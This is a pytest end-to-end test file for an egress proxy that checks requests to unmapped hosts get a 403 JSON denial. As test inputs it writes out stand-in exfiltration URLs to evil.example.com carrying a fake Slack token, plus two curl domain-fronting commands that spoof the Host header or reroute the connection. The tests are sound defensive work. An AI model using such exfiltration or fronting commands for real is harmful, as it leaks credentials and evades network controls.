"""Hosts that are not mapped get 403 and are never contacted."""

import json

import pytest

from tests.e2e.canary import Canary


@pytest.fixture
def canary():
    c = Canary()
    yield c
    c.close()


DENY_CODE = """
import json, sys, requests
out = []
for url in sys.argv[1:] or {urls!r}:
    r = requests.get(url, timeout=10)
    out.append({{"url": url, "status": r.status_code, "decision": r.headers.get("X-Detour-Decision"), "body": r.json()}})
print(json.dumps(out))
"""


def test_denied_hosts_get_403_json_and_the_canary_sees_nothing(live_stack, make_env, canary):
    env = make_env()
    urls = [f"https://{canary.host}:{canary.port}/steal",          # address literal, https
            f"http://{canary.host}:{canary.port}/steal",           # address literal, http
            "https://evil.example.com/exfil?token=xoxb-LEAK",      # name, https
            "http://evil.example.com/exfil",                       # name, http
            f"https://slack.com:{canary.port}/api/auth.test"]      # mapped name, wrong port
    result = live_stack.run(env, DENY_CODE.format(urls=urls), ".py")
    assert result.exit_code == 0, result.stderr
    answers = json.loads(result.stdout)
    assert [a["status"] for a in answers] == [403] * len(urls)
    assert {a["decision"] for a in answers} == {"denied"}
    assert all(a["body"]["error"] == "denied" and a["body"]["reason"] for a in answers)
    assert [r.decision for r in result.requests] == ["denied"] * len(urls)
    assert not [p for p in live_stack.state.audit_dir.rglob("*.jsonl") if "xoxb-LEAK" in p.read_text()]
    assert canary.seen == []
    assert canary.probe() == 2  # the canary does notice traffic that reaches it


def test_domain_fronting_is_denied(live_stack, make_env):
    env = make_env()
    code = """
curl -sS -H 'Host: evil.example.com' https://slack.com/api/auth.test
echo
curl -sS --connect-to slack.com:443:evil.example.com:443 https://slack.com/api/auth.test
"""
    result = live_stack.run(env, code, ".sh")
    answers = [json.loads(line) for line in result.stdout.splitlines()]
    assert len(answers) == 2
    for answer in answers:  # Host header, then CONNECT target, disagree with the SNI
        assert answer["error"] == "denied" and "host mismatch" in answer["reason"]
    assert live_stack.store.diff(env).inserts == []
